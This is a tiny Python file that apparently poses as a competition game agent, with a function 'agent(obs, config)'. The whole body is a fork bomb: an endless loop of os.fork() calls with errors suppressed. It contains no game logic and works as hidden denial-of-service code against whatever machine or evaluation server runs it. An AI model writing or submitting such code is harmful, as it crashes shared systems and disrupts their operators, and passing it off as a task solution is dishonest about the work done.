import contextlib
import os


def agent(obs, config):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
